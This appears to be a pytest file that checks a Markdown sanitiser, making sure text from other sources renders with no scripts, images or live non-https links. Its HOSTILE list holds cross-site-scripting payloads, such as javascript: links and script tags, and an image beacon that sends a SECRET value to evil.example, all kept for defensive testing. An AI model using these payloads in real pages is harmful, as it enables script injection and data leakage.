"""What others wrote is shown as text: only https links live, pictures do not load."""

import json
import subprocess
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scripts.workspace.markup import facts, inline, prose
from tests.support.expected_request import main_of
from tools.operations import find
from tools.pages.node import PLACE, made

HOSTILE = [
    "[x](javascript:alert(document.domain))",
    "![p](https://evil.example/p?d=SECRET)",
    "[![p](https://evil.example/p)](javascript:alert(1))",
    "<javascript:alert(1)> <JAVASCRIPT:alert(1)>",
    "<img src=https://evil.example/p> <a href='javascript:alert(1)'>x</a>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)> 'title'",
    "&#91;x](javascript:alert(1)) [x](&#106;avascript:alert(1))",
    "\\[x](javascript:alert(1)) \\\\[x](javascript:alert(1))",
    "`[x](javascript:alert(1))` ``` [x](javascript:alert(1))",
    "```\n[x](javascript:alert(1))\n```\n[y](data:text/html,x)",
    "~~~\n![p](https://evil.example/p)",
    "[x](http://plain.example) [x](//evil.example) [x](/api/w/x/jobs)",
    "https://ok.example/a)](javascript:alert(1))",
    "[https://ok.example/a](javascript:alert(1))",
    "https://ok.example/a](javascript:alert(1)) ![https://ok.example/b](x)",
    "https://ok.example/<javascript:alert(1)>",
    "<https://ok.example/a> <https://ok.example/a",
    "<!-- x --> <style>*{display:none}</style> <script>alert(1)</script>",
    "    [x](javascript:alert(1))\n\t![p](https://evil.example/p)",
    "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "a\n===\n> [x](javascript:alert(1))\n\n1. ![p](https://evil.example/p)",
]


class Seen(HTMLParser):
    """The tags of a page that act, and its text."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.links, self.text = [], [], ""
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        assert not any(name.startswith("on") for name, _ in attributes)
        self.links += [value for name, value in attributes if name in ("href", "src")]

    def handle_data(self, data):
        self.text += data


@pytest.fixture(scope="module")
def shown(node_packages):
    """Renders Markdown texts as Windmill does: a function."""
    program = made(PLACE, "markdown", "render.js") / "render.js"  # JSON in and out

    def shown(*texts):
        asked = json.dumps(texts)
        words = ["node", str(program)]
        done = subprocess.run(words, input=asked, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return [Seen(html) for html in json.loads(done.stdout)]

    return shown


def inert(seen):
    """Nothing loads, and whatever is a link says where it leads."""
    assert not {"img", "script", "style", "iframe", "object"} & set(seen.tags)
    for link in seen.links:
        assert link.startswith("https://")
        assert link.replace("&amp;", "&") in seen.text


def words(text):
    return "".join(text.split())


@pytest.mark.slow
def test_the_page_itself_makes_links_and_pictures_live(shown):
    seen = shown(*HOSTILE[:2])
    assert seen[0].links == ["javascript:alert(document.domain)"]
    assert seen[1].tags == ["p", "img"]


@pytest.mark.slow
@pytest.mark.parametrize("way", [prose, inline])
def test_hostile_markdown_is_text(shown, way):
    for text, seen in zip(HOSTILE, shown(*map(way, HOSTILE)), strict=True):
        inert(seen)
        if way is inline:
            assert words(seen.text) == words(text)


@pytest.mark.slow
@settings(max_examples=15, suppress_health_check=list(HealthCheck))
@given(
    texts=st.lists(
        st.lists(st.sampled_from(HOSTILE + list("[]()!<>\\`~&\n *_:"))),
        min_size=20,
        max_size=20,
    )
)
def test_no_mixture_of_it_acts(shown, texts):
    joined = ["".join(parts) for parts in texts]
    for way in (prose, inline):
        for seen in shown(*map(way, joined)):
            inert(seen)


@pytest.mark.slow
def test_an_answer_keeps_its_form_and_its_links(shown):
    answer = (
        "# Results\n\n**Two** things [1]:\n\n- a\n- see https://ok.example/a_b?c=1&d=[2]."
        "\n\n1. x\n2. y\n\n> said"
    )
    (seen,) = shown(prose(answer))

    assert seen.links == ["https://ok.example/a_b?c=1&d="]
    assert {"h1", "strong", "ul", "ol", "blockquote", "li"} <= set(seen.tags)
    assert "Two things [1]:" in seen.text


@pytest.mark.slow
def test_citations_and_approvals_are_inert_and_readable(shown, workspace, auth):
    cite = main_of(find("chat/cite_answer"))
    ask = main_of(find("waits/ask_approval"))
    for text in HOSTILE:
        passages = [{"source": text, "start": 0, "text": text} for _ in range(5)]
        found = cite(auth, f"{text}\n\nSo [2] and [5].", passages)
        name = "my_endpoint"
        details = {name: text, "more": [{"x": text}, {text: 1}], "many": [text, text]}
        page = ask(auth, text, details)["description"]
        cited, asked = shown(found["markdown"], page["markdown"])

        for seen in (cited, asked):
            inert(seen)
        assert "[2] " in cited.text
        assert "[5] " in cited.text
        assert words(asked.text).count(words(text)) == 6
        assert asked.tags.count("li") == 4
        assert "my endpoint: " in asked.text


def test_facts_are_words():
    told = facts(
        {"a_b": {"c": None, "d": [1.5, True]}, "rows": [{"x": "*y*"}], "z": []}
    )
    assert told == [
        "- a b c: not known",
        "- a b d: 1.5, yes",
        "- rows 1 x: \\*y\\*",
        "- z: none",
    ]


def test_what_is_shown_is_read_as_it_stands():
    """Signs that turn the order of others, or stand unseen between them, are gone; what
    joins letters and pictures is part of a text."""
    turned = "pay \u202e001$\u202c \u2066x\u2069 10\u200b0\ufeff \u200f\u05d0"

    assert inline(turned) == prose(turned) == "pay 001$ x 100 \u05d0"
    assert inline("\U0001f468\u200d\U0001f469 \u0645\u06cc\u200c") == (
        "\U0001f468\u200d\U0001f469 \u0645\u06cc\u200c"
    )
